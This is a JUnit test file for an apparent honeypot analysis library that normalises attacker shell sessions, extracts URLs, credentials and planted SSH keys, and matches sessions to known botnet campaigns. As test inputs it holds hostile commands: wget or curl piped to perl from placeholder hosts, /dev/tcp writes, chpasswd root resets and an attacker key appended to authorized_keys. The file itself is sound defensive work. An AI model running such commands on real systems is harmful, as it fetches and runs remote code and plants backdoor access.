package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.TerminalSize;
import io.github.cowriekit.model.Upload;
import io.github.cowriekit.model.assessment.CampaignMatch;
import io.github.cowriekit.model.assessment.PlantedKey;
import io.github.cowriekit.model.assessment.Playbook;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class PlaybookTest {
    private static final Analysis ANALYSIS = Analysis.standard();
    /** Made for these tests with ssh-keygen; nobody has the private half. */
    private static final String KEY = "AAAAC3NzaC1lZDI1NTE5AAAAICtjZX349OGr8zNOMNoKKWymlg7bkaRCXOvmnFp+eEl+";

    @TempDir
    private Path folder;

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "cd   /tmp ; ls                      ! cd /tmp ; ls",
                "wget http://192.0.2.7/a.sh          ! wget http://198.51.100.9:81/other/b.sh?x=1",
                "wget -qO - 192.0.2.7/csx/perlNIK    ! wget -qO - evil.example/p",
                "ping 192.0.2.7                      ! ping 198.51.100.1",
                "echo x > /dev/tcp/[2001:db8::1]:80  ! echo x > /dev/tcp/[2001:db8::2]",
                "echo \"root:J9uoMrirSMHb\"|chpasswd|bash ! echo \"root:aeUVqyLmI0Sy\"|chpasswd|bash",
                "echo -e \"\\x6F\\x6B\\x6F\\x6B\\x6F\\x6B\" ! echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\"",
                "/bin/busybox FGZNH                  ! /bin/busybox DTDZP",
                "/tmp/yjRvsSGHBE                     ! /tmp/xlxeavrjsw",
                "echo SSHCHK_0123456789ab_BEGIN      ! echo SSHCHK_ba9876543210_BEGIN",
                "kill 12345                          ! kill 678",
                "md5 0123456789abcdef0123456789abcdef ! md5 ffffffffffffffff0123456789abcdef",
            })
    void givesTheSameScriptTheSameKeys(String command, String other) {
        assertThat(of(command).sequenceKey()).isEqualTo(of(other).sequenceKey());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "LS                 ! ls",
                "chmod 777 x        ! chmod 755 x",
                "cat /etc/passwd    ! cat /etc/shadow",
                "cat /usr/share/TelegramDesktop ! cat /usr/share/applications",
                "ls /dev/tty123     ! ls /dev/tty456",
                "nc -p 4444 x       ! nc -p 5555 x",
                "kill 12            ! kill 13",
            })
    void keepsWhatIsPartOfTheScript(String command, String other) {
        assertThat(of(command).sequenceKey()).isNotEqualTo(of(other).sequenceKey());
    }

    @Test
    void tellsScriptsThatShuffleByTheirSet() {
        assertThat(of("id", "w").sequenceKey()).isNotEqualTo(of("w", "id").sequenceKey());
        assertThat(of("id", "w").setKey()).isEqualTo(of("w", "id", "w").setKey());
        assertThat(of("ls -la; sudo cat x").verbKey())
                .isEqualTo(of("ls /; A=b cat y").verbKey());
        assertThat(of("id\nw")).isEqualTo(of("id", "w"));
        assertThat(of().sequenceKey()).isNull();
    }

    @Test
    void keepsWhatItTakesOut() {
        Playbook playbook = of(
                "wget http://192.0.2.7/a.sh; curl -O evil.example/b",
                "echo \"root:J9uoMrirSMHb\"|chpasswd|bash",
                "echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\"");

        assertThat(playbook.urls()).containsExactly("http://192.0.2.7/a.sh", "evil.example/b");
        assertThat(playbook.writtenCredentials()).containsExactly("root:J9uoMrirSMHb");
        assertThat(playbook.decodedWords()).containsExactly("auth_ok");
        assertThat(playbook.lines()).isEqualTo(3);
    }

    @Test
    void readsPlantedKeys() {
        Playbook playbook = of("id", "echo \"ssh-ed25519 " + KEY + " eve@evil\" >> ~/.ssh/authorized_keys");
        PlantedKey key = playbook.keys().get(0);

        assertThat(playbook.keys()).hasSize(1);
        assertThat(key.type()).isEqualTo("ssh-ed25519");
        assertThat(key.bits()).isEqualTo(256);
        assertThat(key.comment()).isEqualTo("eve@evil");
        assertThat(key.command()).isEqualTo(1);
        assertThat(key.fingerprint()).isEqualTo("SHA256:LTa/wOTXNbsxWEBhpNymSTlc8jIrosRXTQ+pXYVZYIQ");
        assertThat(playbook.sequenceKey())
                .isEqualTo(of("id", "echo \"ssh-ed25519 " + KEY + "\" >> ~/.ssh/authorized_keys")
                        .sequenceKey());
    }

    @Test
    void keepsAKeyThatCannotBeDecoded() {
        PlantedKey key = of("echo ssh-rsa " + "A".repeat(41) + " x").keys().get(0);

        assertThat(key.fingerprint()).isNull();
        assertThat(key.bits()).isNull();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "cd ~; chattr -ia .ssh; lockr -ia .ssh   ! outlaw-mdrfckr",
                "Enter new UNIX password:                ! passwd-prompt",
                "echo SSHCHK_0123456789ab_BEGIN          ! sshchk-beacon",
                "echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\" ! auth-ok-dropper",
                "uname -s -v -n -r -m                    ! minimal-scanner",
                "/bin/./uname -s -v -n -r -m             ! minimal-scanner",
                "lspci | egrep VGA && lspci | grep 3D    ! diicot",
                "ls -la ~/.local/share/TelegramDesktop/tdata ! telegram-sms-hunter",
                "/bin/busybox FGZNH                      ! mirai-loader",
                "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s ! mirai-loader",
                "linuxshell                              ! linuxshell-loader",
                "wget http://192.0.2.7:283/x             ! four-second-dropper",
                "echo -e -n \"\\x7f\\x45\\x4c\\x46\\x01\" >> /tmp/amd64 ! elf-echo-injector",
                "wget http://192.0.2.7/meow              ! meow-dropper",
                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! perl-zed-dropper",
                "wget -qO - 192.0.2.7/csx/perlNIK|perl   ! shellbot-fetch",
                "pkill -9 kdevtmpfsi                     ! kinsing",
            })
    void namesKnownCampaigns(String command, String campaign) {
        assertThat(of(command).campaigns()).extracting(CampaignMatch::name).containsExactly(campaign);
    }

    @Test
    void namesCampaignsByOtherMarks() {
        assertThat(of("echo ssh-rsa " + "A".repeat(44) + " mdrfckr").family()).isEqualTo("outlaw-mdrfckr");
        assertThat(of(Sessions.ran()
                                .downloads(List.of(
                                        file("a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2")))
                                .build())
                        .family())
                .isEqualTo("outlaw-mdrfckr");
        assertThat(of(Sessions.ran()
                                .uploads(List.of(Upload.builder(FileOrigin.SFTP)
                                        .filename("redtail.arm7")
                                        .build()))
                                .build())
                        .family())
                .isEqualTo("redtail");
        assertThat(of(Sessions.ran()
                                .logins(List.of(Sessions.login("pi", "3245gs5662d34", false)))
                                .build())
                        .campaigns())
                .containsExactly(new CampaignMatch(
                        "345gs5662d34",
                        List.of("credential *:3245gs5662d34"),
                        "public logs and honeypot reports; same minute as mdrfckr, what it is for is disputed"));
        assertThat(of(Sessions.ran()
                                .client(new Client("SSH-2.0-Go", null, new TerminalSize(40, 80), List.of()))
                                .build())
                        .family())
                .isEqualTo("go-swapped-terminal");
        assertThat(of("uname -a", "id").campaigns()).isEmpty();
    }

    @Test
    void saysOfCommonFilesWhatTheyAre() {
        assertThat(of(Sessions.ran()
                                .downloads(List.of(
                                        file("01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b")))
                                .build())
                        .files())
                .singleElement()
                .satisfies(known -> {
                    assertThat(known.content()).isEqualTo("one newline");
                    assertThat(known.trivial()).isTrue();
                });
    }

    @Test
    void standsWhatAttackersSend() {
        String[] hostile = {
            "echo ".repeat(20_000) + "| passwd",
            "-----BEGIN RSA PRIVATE KEY-----".repeat(5_000),
            "\\x41".repeat(50_000),
            "A".repeat(200_000),
            "1.2.3.".repeat(30_000),
            "a.".repeat(50_000) + "wget",
            " wget" + " a-b.c".repeat(20_000),
            "/".repeat(100_000),
            "\"'`(".repeat(20_000),
            ";|&".repeat(30_000),
            "ssh-rsa ".repeat(20_000),
            "\0\r\u001b[2J\ud800\u202e"
        };

        Playbook playbook = of(hostile);

        assertThat(playbook.sequenceKey()).hasSize(64);
    }

    @Test
    void readsSignaturesOfTheUser() throws IOException {
        Path file = folder.resolve("campaigns.tsv");
        Files.writeString(
                file,
                "campaign\tkind\tmark\tneeds\tfirst\tlast\tsource\nmine\tregex\t^hello (world|moon)$\thello\t2026\t-\tme\n");
        CampaignSignatures signatures = CampaignSignatures.load(file);
        Analysis own = Analysis.builder().campaigns(signatures).build();

        assertThat(Objects.requireNonNull(
                                own.assess(Sessions.ran("hello moon").build()).playbook())
                        .family())
                .isEqualTo("mine");
        assertThat(signatures.text()).isEqualTo(Files.readString(file));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "somewhere  ! x        ! kind must be one of regex, only, comment",
                "regex      ! (x       ! no regular expression of RE2",
                "regex      ! x*       ! fits everything",
                "file       ! 12       ! must be a SHA-256",
                "key        ! SHA256:x ! must look like SHA256:",
                "credential ! x        ! must be user:password",
                "client     ! x        ! Go narrower than high",
            })
    void rejectsSignaturesThatMakeNoSense(String kind, String mark, String why) throws IOException {
        Path file = folder.resolve("campaigns.tsv");
        Files.writeString(
                file,
                "campaign\tkind\tmark\tneeds\tfirst\tlast\tsource\nmine\t" + kind + "\t" + mark + "\t-\t-\t-\tme\n");

        assertThatThrownBy(() -> CampaignSignatures.load(file))
                .isInstanceOf(AnalysisDataException.class)
                .hasMessageStartingWith("campaigns.tsv line 2: ")
                .hasMessageContaining(why);
    }

    private static Download file(String sha256) {
        return Download.builder(FileOrigin.REDIRECT).sha256(sha256).build();
    }

    private static Playbook of(String... commands) {
        return of(Sessions.ran(commands).build());
    }

    private static Playbook of(Session session) {
        return Objects.requireNonNull(ANALYSIS.assess(session).playbook());
    }
}
